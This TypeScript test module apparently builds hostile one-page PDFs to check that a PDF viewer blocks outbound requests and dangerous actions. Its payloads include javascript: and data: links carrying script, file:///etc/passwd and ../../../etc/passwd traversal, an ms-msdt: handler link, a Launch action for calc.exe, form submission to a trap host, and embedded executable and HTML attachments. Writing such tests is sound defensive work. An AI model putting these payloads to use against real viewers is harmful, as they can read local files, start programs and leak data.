import { script, text, type HostilePdf } from './hostile-pdf.ts';
import { innocent, onePage, stream } from './pdf-file.ts';

/** A link over the whole page that does `action`. */
const linkTo = (action: string): Buffer =>
  onePage({
    page: '/Annots [10 0 R]',
    more: [[10, `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>`]],
  });

const link = (name: string, action: (trap: string) => string): HostilePdf => ({
  name,
  make: (trap) => linkTo(action(trap)),
  outcome: 'page',
  clicked: true,
});

const uri = (address: string): string => `<< /S /URI /URI ${text(address)} >>`;

const fileAt = (trap: string): string =>
  `<< /Type /Filespec /FS /URL /F (${trap}/file.pdf) /UF (${trap}/file.pdf) >>`;

/** The one link that may be followed, by the agent alone. */
export const webLink: HostilePdf = {
  name: 'a link to the web over the whole page',
  make: (trap) => linkTo(uri(`${trap}/web`)),
  outcome: 'page',
};

/** Documents that try to make the browser ask something of another server, or leave the page. */
export const requests: readonly HostilePdf[] = [
  webLink,
  link('a link to javascript:', (trap) => uri(`javascript:${script(trap).replaceAll('\n', ' ')}`)),
  link('a link to javascript: behind blanks and capitals', () =>
    uri(' \u0001JaVa\tScRiPt:globalThis.hostile=1'),
  ),
  link('a link to data:', () => uri('data:text/html,<script>opener.hostile=1;alert(1)</script>')),
  link('a link to a file', () => uri('file:///etc/passwd')),
  link('a link to a program of the workstation (ms-msdt:)', () =>
    uri('ms-msdt:/id PCWDiagnostic /skip force'),
  ),
  link('a link to an address of the application itself', () => uri('/api/session/logout')),
  link('a link to a mail', () => uri('mailto:someone@example.org?body=hostile')),
  link(
    'a program to launch',
    (trap) => `<< /S /Launch /F (calc.exe) /Win << /F (${trap}) >> /NewWindow true >>`,
  ),
  link(
    'another document, elsewhere',
    (trap) => `<< /S /GoToR /F ${fileAt(trap)} /D [0 /Fit] /NewWindow true >>`,
  ),
  link('another document, by a path', () => '<< /S /GoToR /F (../../../etc/passwd) /D [0 /Fit] >>'),
  link('a form to send', (trap) => `<< /S /SubmitForm /F ${fileAt(trap)} /Flags 4 >>`),
  link(
    'data to import, a layer to hide, a form to empty',
    (trap) => `<< /S /ImportData /F ${fileAt(trap)}
  /Next [<< /S /ResetForm >> << /S /Hide /T [] >> << /S /SetOCGState /State [/OFF 3 0 R] >>] >>`,
  ),
  link('a command of the viewer: print', () => '<< /S /Named /N /Print >>'),
  {
    name: 'a form to send, an address and a print, on opening',
    make: (trap) =>
      onePage({
        catalog: `/OpenAction << /S /SubmitForm /F ${fileAt(trap)}
  /Next [${uri(`${trap}/open`)} << /S /Named /N /Print >> << /S /GoToR /F ${fileAt(trap)} /D [0 /Fit] >>] >>
  /URI << /Base (${trap}/) >> /AA << /WC ${uri(`${trap}/close`)} >>`,
      }),
    outcome: 'page',
  },
  {
    name: 'images, forms, profiles and fonts kept elsewhere',
    make: (trap) =>
      onePage({
        content: `${innocent} q 100 0 0 100 100 100 cm /Im Do Q q /Fm Do Q /Cs cs 0.5 0.5 0.5 scn 300 100 50 50 re f`,
        resources: '/XObject << /Im 10 0 R /Fm 11 0 R >> /ColorSpace << /Cs [/ICCBased 12 0 R] >>',
        font: `<< /Type /Font /Subtype /TrueType /BaseFont /Elsewhere /FirstChar 32 /LastChar 32 /Widths [500]
  /FontDescriptor 13 0 R >>`,
        more: [
          [
            10,
            stream(
              `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8
  /F ${fileAt(trap)} /FFilter /DCTDecode /OPI << /1.3 << /F ${fileAt(trap)} >> >>
  /Alternates [<< /Image 10 0 R /DefaultForPrinting true >>]`,
              '',
            ),
          ],
          [
            11,
            stream(
              `/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Ref << /F ${fileAt(trap)} /Page 0 >> /F ${fileAt(trap)}`,
              '',
            ),
          ],
          [12, stream(`/N 3 /F ${fileAt(trap)}`, 'not a profile')],
          [
            13,
            `<< /Type /FontDescriptor /FontName /Elsewhere /Flags 32 /FontBBox [0 0 500 700] /ItalicAngle 0 /Ascent 700
  /Descent 0 /CapHeight 700 /StemV 80 /FontFile2 14 0 R >>`,
          ],
          [14, stream(`/Length1 10 /F ${fileAt(trap)}`, 'not a font.')],
        ],
      }),
    outcome: 'page',
  },
  {
    name: 'a character map and a font named as paths of the server',
    make: () =>
      onePage({
        font: `<< /Type /Font /Subtype /Type0 /BaseFont /..#2F..#2Fapi#2Fsession /Encoding /..#2F..#2Fapi#2Fsession
  /DescendantFonts [10 0 R] >>`,
        more: [
          [
            10,
            `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /..#2F..#2Fapi#2Fsession
  /CIDSystemInfo << /Registry (..) /Ordering (../../api/session) /Supplement 0 >> /FontDescriptor 11 0 R >>`,
          ],
          [11, '<< /Type /FontDescriptor /FontName /..#2F..#2Fapi#2Fsession /Flags 4 /FontBBox [0 0 1 1] >>'],
        ],
      }),
    outcome: 'page',
  },
  {
    name: 'films, sounds, three dimensions and attached programs',
    make: (trap) => {
      const annotation = (number: number, body: string): readonly [number, string] => [
        number,
        `<< /Type /Annot /Rect [50 ${number * 40 - 350} 250 ${number * 40 - 320}] ${body} >>`,
      ];
      return onePage({
        catalog:
          '/Names << /EmbeddedFiles << /Names [(a.html) 20 0 R (b.exe) 20 0 R] >> >> /AF [20 0 R] /PageMode /UseAttachments',
        page: '/Annots [10 0 R 11 0 R 12 0 R 13 0 R 14 0 R]',
        more: [
          annotation(10, `/Subtype /Movie /Movie << /F ${fileAt(trap)} >> /A true`),
          annotation(
            11,
            `/Subtype /Screen /A << /S /Rendition /OP 0 /AN 11 0 R /R << /S /MR /C << /S /MCD /D ${fileAt(trap)}
  /CT (video/mp4) >> >> /JS ${text(script(trap))} >>`,
          ),
          annotation(
            12,
            `/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) ${fileAt(trap)}] >> >>
  /RichMediaSettings << /Activation << /Condition /PV >> >>`,
          ),
          annotation(13, `/Subtype /FileAttachment /Name /Paperclip /FS 20 0 R /Contents (a.html)`),
          annotation(14, '/Subtype /3D /3DD 21 0 R /3DA << /A /PV >>'),
          [20, '<< /Type /Filespec /F (a.html) /UF (../../a.html) /EF << /F 22 0 R >> >>'],
          [21, stream('/Type /3D /Subtype /U3D', 'U3D')],
          [22, stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', `<script>${script(trap)}</script>`)],
        ],
      });
    },
    outcome: 'page',
    clicked: true,
  },
];
